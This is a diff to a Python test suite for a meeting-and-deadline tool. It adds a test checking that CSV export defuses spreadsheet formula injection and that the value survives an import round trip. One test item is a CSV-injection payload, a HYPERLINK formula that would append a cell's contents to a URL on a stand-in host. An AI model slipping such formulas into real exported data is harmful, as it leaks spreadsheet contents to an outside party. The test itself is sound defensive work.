@@ -26,6 +26,9 @@ ODD_ITEMS = [
      "--outcome", "First line.\nSecond line, with a comma."),
     ("meeting", "add", "Talks to be dated", "--slug", "talks-tba", "--starts", "TBA",
      "--confirm-ahead", "14d"),
+    # A title a spreadsheet would run as a formula (CSV injection).
+    ("meeting", "add", '=HYPERLINK("http://example.org/?"&A1,"x")', "--slug", "formula",
+     "--starts", "2027-02-01", "--location", "@location"),
     ("deadline", "add", "Report due", "--slug", "report-due", "--due", "by end of 2027",
      "--note", 'Quoted "text", and a line\nbreak.', "--alert", "30d,1d",
      "--source", "https://example.org/report", "--confidence", "expected"),
@@ -66,6 +69,23 @@ def test_an_export_read_back_changes_nothing(home: Path, form: str) -> None:
     assert summary(run(home, "import", str(exported))).startswith("import: 0 added, 0 changed")
     assert run(home, "meeting", "show", "weekly-consultations", "--json") == before
     assert run(home, "export", f"--{form}") == exported.read_text()
+
+
+def test_a_cell_a_spreadsheet_would_run_is_written_as_text_and_read_back_as_it_was(
+    home: Path,
+) -> None:
+    add_odd_items(home)
+    [row] = [r for r in rows(run(home, "export", "--csv")) if r["slug"] == "formula"]
+    assert row["title"] == '\'=HYPERLINK("http://example.org/?"&A1,"x")'
+    assert row["location"] == "'@location"
+    exported = home / "a.csv"
+    exported.write_text(run(home, "export", "--csv"))
+    assert "0 changed" in summary(run(home, "import", str(exported), "--dry-run"))
+    shown = json.loads(run(home, "meeting", "show", "formula", "--json"))
+    assert (shown["title"], shown["location"]) == (
+        '=HYPERLINK("http://example.org/?"&A1,"x")',
+        "@location",
+    )
 
 
 def test_the_export_writes_the_documented_columns_as_the_cli_reads_them(home: Path) -> None:
